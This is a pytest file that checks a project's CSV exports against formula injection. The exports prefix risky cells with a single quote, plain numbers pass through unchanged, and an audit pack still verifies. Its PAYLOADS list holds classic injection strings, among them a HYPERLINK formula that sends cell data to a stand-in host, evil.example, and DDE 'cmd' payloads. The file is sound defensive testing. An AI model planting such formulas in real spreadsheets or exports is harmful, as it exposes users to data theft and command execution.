"""Formula injection (issue 12): every CSV Outcomes writes neutralises cells a spreadsheet
would run (``= + - @``, tab, carriage return) with a leading single quote; numbers stay numbers,
and ``outcomes roi verify`` reads the original text back."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pandas as pd
import pytest

from outcomes.app.digest.messages import items_csv
from outcomes.core.csv_cells import FORMULA_STARTS, csv_bytes, read_records, restore_cell, safe_cell
from outcomes.roi.pack_export import export_pack
from outcomes.roi.pack_verify import verify_pack
from outcomes.store.snapshot import open_snapshot
from tests import ledgerfixtures

fx, store = ledgerfixtures.fx, ledgerfixtures.store

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_written_as_text_and_read_back(payload):
    assert payload.startswith(FORMULA_STARTS)
    cell = safe_cell(payload)
    assert cell == "'" + payload
    assert restore_cell(cell) == payload
    assert read_records(csv_bytes(["c"], [[payload]]).decode()) == [{"c": payload}]


@pytest.mark.parametrize("number", ["-12.50", "-0.0000000001", "+3", "-1e-05", "12", "-.5"])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number
    assert safe_cell(Decimal(number)) == str(Decimal(number))


def test_a_leading_quote_survives_the_round_trip():
    assert restore_cell(safe_cell("'=1")) == "'=1" and restore_cell(safe_cell("'x")) == "'x"


def test_the_digest_csv_neutralises_text_and_keeps_negative_values():
    items = pd.DataFrame({"metric": ["=1+1", "ok"], "value": [-3.5, None]})
    rows = list(csv.reader(io.StringIO(items_csv(items))))
    assert rows[1] == ["'=1+1", "-3.5"] and rows[2] == ["ok", ""]


def test_the_audit_pack_csvs_neutralise_text_and_the_pack_still_verifies(fx, store):
    ledgerfixtures.raise_hourly_cost(store, "@attacker", PAYLOADS[0])
    with open_snapshot(fx.settings()) as con:
        pack = export_pack(con, fx.settings(), "2026-Q1", fx.root / "pack.zip", store=store)
    with zipfile.ZipFile(pack) as zf:
        files = {n: zf.read(n).decode("utf-8", "replace") for n in zf.namelist()}
    change = next(
        r for r in csv.DictReader(io.StringIO(files["assumptions.csv"])) if r["record"] == "change"
    )
    assert change["changed_by"] == "'@attacker" and change["why"] == "'" + PAYLOADS[0]
    assert change["old_value"] == "60" and change["value"] == "62.50"
    for name in ("assumptions.csv", "ledger.csv", "lines.csv", "metric_inputs.csv"):
        for row in csv.reader(io.StringIO(files[name])):
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    float(cell)  # only plain numbers may begin with + or -
    assert "single quote" in files["README.md"]
    report = verify_pack(pack)
    assert report.ok, report.describe()
